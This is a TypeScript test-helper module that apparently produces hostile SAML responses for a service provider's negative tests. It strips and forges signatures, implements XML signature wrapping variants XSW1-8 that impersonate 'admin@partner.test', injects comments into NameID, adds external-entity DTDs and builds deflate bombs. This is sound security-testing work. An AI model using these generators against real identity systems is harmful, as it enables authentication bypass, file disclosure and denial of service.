/**
 * Hostile SAML messages, made from genuine IdP responses with xml-crypto and xmldom (test keys
 * only): stripped and forged signatures (the attacker's certificate in KeyInfo), tampering after
 * signing, the XML signature wrapping variants, comment injection, DTDs, deflate bombs.
 */
import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { createDeflateRaw } from 'node:zlib';

export const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
export const DS = 'http://www.w3.org/2000/09/xmldsig#';
export const EVIL_NAMEID = 'admin@partner.test';

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');
const serialize = (doc: Document) => new XMLSerializer().serializeToString(doc);

function byLocal(root: Element, local: string, ns?: string): Element[] {
  const out: Element[] = [];
  const walk = (n: Element) => {
    for (let c = n.firstChild; c; c = c.nextSibling) {
      if (c.nodeType !== 1) continue;
      const el = c as Element;
      if (el.localName === local && (!ns || el.namespaceURI === ns)) out.push(el);
      walk(el);
    }
  };
  walk(root);
  return out;
}

const directSignature = (el: Element): Element | null => {
  for (let c = el.firstChild; c; c = c.nextSibling) if (c.nodeType === 1 && (c as Element).localName === 'Signature' && (c as Element).namespaceURI === DS) return c as Element;
  return null;
};
const firstAssertion = (doc: Document) => byLocal(doc.documentElement!, 'Assertion', SAML)[0]!;

export function edit(xml: string, fn: (doc: Document, root: Element) => void): string {
  const doc = parse(xml);
  fn(doc, doc.documentElement!);
  return serialize(doc);
}

export const stripSignatures = (xml: string) =>
  edit(xml, (_doc, root) => {
    for (const s of byLocal(root, 'Signature', DS)) s.parentNode!.removeChild(s);
  });

export const setNameId = (xml: string, value: string) =>
  edit(xml, (doc, root) => {
    const n = byLocal(root, 'NameID', SAML)[0]!;
    while (n.firstChild) n.removeChild(n.firstChild);
    n.appendChild(doc.createTextNode(value));
  });

export const setAttribute = (xml: string, local: string, name: string, value: string) =>
  edit(xml, (_doc, root) => {
    (root.localName === local ? root : byLocal(root, local)[0]!).setAttribute(name, value);
  });

/** Signs the Response or its Assertion with `key`, putting `certificate` in KeyInfo ("trust the cert I sent"). */
export function sign(xml: string, target: 'Response' | 'Assertion', key: string, certificate: string, signatureAlgorithm = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256'): string {
  const xpath = target === 'Response' ? "/*[local-name(.)='Response']" : "/*[local-name(.)='Response']/*[local-name(.)='Assertion']";
  const signer = new SignedXml({ privateKey: key, publicCert: certificate, signatureAlgorithm, canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#' });
  signer.addReference({
    xpath,
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
  });
  signer.computeSignature(xml, { prefix: 'ds', location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: 'after' } });
  return signer.getSignedXml();
}

/** "user@example.com.evil.com" → "user@example.com<!---->.evil.com": c14n drops the comment, the signature still verifies. */
export const injectComment = (xml: string, prefix: string) => xml.replace(`>${prefix}`, `>${prefix}<!---->`);

/** A DOCTYPE with an external entity, referenced in an (unsigned) Extensions element of the Response. */
export function withExternalEntity(xml: string, systemId: string, { parameterEntity = false } = {}): string {
  const body = xml.replace(/^<\?xml[^?]*\?>/, '');
  const dtd = parameterEntity
    ? `<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "${systemId}"> %remote;]>`
    : `<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "${systemId}">]>`;
  const withUse = parameterEntity ? body : body.replace('<samlp:Status>', '<samlp:Extensions><x xmlns="urn:x">&xxe;</x></samlp:Extensions><samlp:Status>');
  return dtd + withUse;
}

function forged(doc: Document, assertion: Element, { keepSignature = false, id }: { keepSignature?: boolean; id?: string } = {}): Element {
  const evil = assertion.cloneNode(true) as Element;
  evil.setAttribute('ID', id ?? '_evil');
  if (!keepSignature) {
    const s = directSignature(evil);
    if (s) evil.removeChild(s);
  }
  const n = byLocal(evil, 'NameID', SAML)[0]!;
  while (n.firstChild) n.removeChild(n.firstChild);
  n.appendChild(doc.createTextNode(EVIL_NAMEID));
  return evil;
}

/** XSW variants against a signed assertion (SAML Raider numbering where it applies). */
export const XSW_ASSERTION: Record<string, (xml: string) => string> = {
  'XSW3: forged assertion beside the signed one': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      r.insertBefore(forged(doc, a), a);
    }),
  'a second (unsigned) assertion appended': (xml) =>
    edit(xml, (doc, r) => {
      r.appendChild(forged(doc, firstAssertion(doc)));
    }),
  'XSW4: forged assertion around the signed one': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      const evil = forged(doc, a);
      r.replaceChild(evil, a);
      evil.appendChild(a);
    }),
  'XSW5: signature moved to the forged assertion, original appended': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      const evil = forged(doc, a);
      const s = directSignature(a)!;
      a.removeChild(s);
      evil.insertBefore(s, byLocal(evil, 'Subject', SAML)[0]!);
      r.replaceChild(evil, a);
      r.appendChild(a);
    }),
  'XSW6: original assertion inside the moved signature': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      const evil = forged(doc, a);
      const s = directSignature(a)!;
      a.removeChild(s);
      evil.insertBefore(s, byLocal(evil, 'Subject', SAML)[0]!);
      r.replaceChild(evil, a);
      s.appendChild(a);
    }),
  'XSW7: signed assertion moved under an unsigned Extensions wrapper': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      const evil = forged(doc, a);
      const ext = doc.createElementNS(SAMLP, 'samlp:Extensions');
      r.replaceChild(evil, a);
      ext.appendChild(a);
      r.insertBefore(ext, r.firstChild!.nextSibling);
    }),
  'XSW8: original in a ds:Object of the signature on the forged assertion': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      const evil = forged(doc, a);
      const s = directSignature(a)!;
      a.removeChild(s);
      const object = doc.createElementNS(DS, 'ds:Object');
      object.appendChild(a);
      s.appendChild(object);
      evil.insertBefore(s, byLocal(evil, 'Subject', SAML)[0]!);
      r.appendChild(evil);
    }),
  'signed assertion moved into the forged SubjectConfirmationData': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      const evil = forged(doc, a);
      r.replaceChild(evil, a);
      byLocal(evil, 'SubjectConfirmationData', SAML)[0]!.appendChild(a);
    }),
  'duplicate ID: the forged assertion takes the signed ID, the original hides in Extensions': (xml) =>
    edit(xml, (doc, r) => {
      const a = firstAssertion(doc);
      const evil = forged(doc, a, { id: a.getAttribute('ID')! });
      const ext = doc.createElementNS(SAMLP, 'samlp:Extensions');
      r.replaceChild(evil, a);
      ext.appendChild(a);
      r.insertBefore(ext, r.firstChild!.nextSibling);
    }),
};

function wrapResponse(xml: string, where: 'inside' | 'beside'): string {
  const doc = parse(xml);
  const original = doc.documentElement!;
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute('ID', '_evilResponse');
  evil.removeChild(directSignature(evil)!);
  const evilAssertion = byLocal(evil, 'Assertion', SAML)[0]!;
  evil.replaceChild(forged(doc, evilAssertion), evilAssertion);
  doc.replaceChild(evil, original);
  const s = directSignature(original)!;
  original.removeChild(s);
  evil.insertBefore(s, evil.firstChild!.nextSibling);
  if (where === 'inside') s.appendChild(original);
  else evil.insertBefore(original, s);
  return serialize(doc);
}

/** XSW variants against a signed Response. */
export const XSW_RESPONSE: Record<string, (xml: string) => string> = {
  'XSW1: forged Response carrying the signature, the signed Response inside it': (xml) => wrapResponse(xml, 'inside'),
  'XSW2: forged Response, the signed Response detached beside the signature': (xml) => wrapResponse(xml, 'beside'),
  'a forged assertion added to the signed Response': (xml) =>
    edit(xml, (doc, r) => {
      r.appendChild(forged(doc, firstAssertion(doc)));
    }),
};

/** Raw DEFLATE of an XML message padded to inflate to about `bytes`; returns base64. */
export function deflateBomb(bytes: number, head: string, tail: string): Promise<{ base64: string; compressedBytes: number }> {
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (c: Buffer) => chunks.push(c));
  deflate.write(head);
  const block = Buffer.alloc(1024 * 1024, 0x20);
  let left = bytes;
  while (left > 0) {
    const part = left >= block.length ? block : block.subarray(0, left);
    deflate.write(part);
    left -= part.length;
  }
  deflate.write(tail);
  return new Promise((resolve) =>
    deflate.end(() => {
      const all = Buffer.concat(chunks);
      resolve({ base64: all.toString('base64'), compressedBytes: all.length });
    }),
  );
}

/** Gives an EntityDescriptor an ID and validUntil and signs it (enveloped, signature first, as the schema wants). */
export function signMetadata(xml: string, key: string, certificate: string, options: { validUntil?: string; signatureAlgorithm?: string } = {}): string {
  const withId = edit(xml, (_doc, root) => {
    root.setAttribute('ID', '_metadata');
    root.setAttribute('validUntil', options.validUntil ?? new Date(Date.now() + 86_400_000).toISOString());
  });
  const signer = new SignedXml({
    privateKey: key,
    publicCert: certificate,
    signatureAlgorithm: options.signatureAlgorithm ?? 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  signer.addReference({
    xpath: '/*',
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
  });
  signer.computeSignature(withId, { prefix: 'ds', location: { reference: '/*', action: 'prepend' } });
  return signer.getSignedXml();
}
